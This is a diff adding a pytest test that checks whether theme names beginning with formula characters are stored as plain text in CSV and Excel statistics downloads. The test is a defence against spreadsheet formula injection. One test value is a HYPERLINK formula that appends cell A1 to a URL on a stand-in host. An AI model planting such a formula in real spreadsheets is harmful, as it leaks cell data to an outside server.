@@ -202,3 +202,27 @@ def test_the_page_runs_the_same_queries_with_ten_times_the_groups(
         client_for(with_mfa(coordinator)), paths["page"] + PERIOD_2025, thirty_more, at_most=14
     )
     assert response.context["report"].groups_started == 33
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x.example/?"&A1,"Klikk")', "+1", "-2", "@SUM(A1)"]
+)
+def test_a_text_that_begins_as_a_formula_is_written_as_text_in_both_downloads(text: str) -> None:
+    """Theme names come from people (a coordinator suggests one, in three languages)."""
+    from selvhjelp.statistics.downloads import as_text
+
+    out = io.StringIO()
+    csv.writer(out).writerow([as_text(text), as_text("Sorg og tap"), as_text(3)])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + text, "Sorg og tap", "3"]
+
+    from openpyxl import Workbook
+
+    from selvhjelp.statistics.downloads import _append_text
+
+    book = Workbook()
+    _append_text(book.active, [text, 3])
+    saved = io.BytesIO()
+    book.save(saved)
+    cell, number = load_workbook(saved).active[1]
+    assert (cell.data_type, cell.value) == ("s", text)
+    assert number.value == 3
